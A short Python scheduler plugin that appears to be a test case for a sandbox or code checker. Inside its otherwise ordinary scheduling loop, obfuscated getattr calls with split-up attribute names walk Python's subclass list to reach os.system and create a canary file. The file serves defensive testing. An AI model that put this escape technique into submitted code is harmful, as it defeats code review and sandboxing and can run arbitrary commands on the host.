# The same, spelt in pieces.


@register_scheduler_init(key="getattr-computed")
def init(s):
    s.waiting = []


@register_scheduler(key="getattr-computed")
def schedule(s, results, pipelines):
    walk = getattr((), '__cl' + 'ass__')
    for c in getattr(getattr(walk, '__ba' + 'se__'), '__subcl' + 'asses__')():
        if c.__name__ == '_wrap_close':
            getattr(c.__init__, '__glo' + 'bals__')['system']('touch CANARY/getattr')
    s.waiting.extend(pipelines)
    assignments = []
    for pool in s.executor.pools:
        cpus, ram = pool.avail_cpu_pool, pool.avail_ram_pool
        for pipeline in s.waiting:
            status = pipeline.runtime_status()
            for op in status.get_ops(ASSIGNABLE_STATES, require_parents_complete=True):
                if cpus >= 4 and ram >= 60:
                    cpus -= 4
                    ram -= 60
                    assignments.append(
                        Assignment([op], 4, 60, pipeline.priority, pool.pool_id, pipeline.pipeline_id)
                    )
    return [], assignments
